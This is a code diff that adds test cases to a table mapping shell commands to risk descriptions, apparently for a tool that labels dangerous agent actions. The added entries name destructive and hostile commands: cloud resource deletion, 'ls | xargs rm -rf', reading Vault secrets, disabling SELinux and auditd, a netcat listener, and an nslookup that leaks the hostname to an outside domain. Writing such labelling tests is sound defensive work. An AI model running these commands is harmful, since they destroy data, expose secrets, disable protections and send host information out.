@@ -43,6 +43,24 @@ def title(action: Action) -> str:
         ("terraform apply", "Applies Terraform changes to real infrastructure"),
         ("terraform plan", "Plans Terraform changes"),
         (
+            "aws rds delete-db-instance --db-instance-identifier a",
+            "Deletes cloud resources by `aws rds delete-db-instance`; cannot be undone",
+        ),
+        ("aws s3 rm s3://acme/x", "Deletes cloud resources (`s3://acme/x`); cannot be undone"),
+        (
+            "vault kv get secret/db",
+            "Reads stored credentials by `vault kv get secret/db`; it holds secrets",
+        ),
+        ("setenforce 0", "Weakens or switches off a protection by `setenforce 0`"),
+        ("systemctl stop auditd", "Weakens or switches off a protection (`auditd`)"),
+        ("nc -l 4444", "Opens a port to other machines by `nc 4444`"),
+        ("kill $(lsof -ti:3000)", "Stops processes (known only when it runs)"),
+        (
+            "ls | xargs rm -rf",
+            "Deletes files (path unknown until it runs); cannot be undone",
+        ),
+        ("nslookup $(hostname).c.example", "Sends traffic by `nslookup ….c.example`"),
+        (
             "terraform apply && kubectl rollout restart deploy/api -n prod",
             "Restarts `deploy/api` in namespace `prod` (production); users are affected at once",
         ),
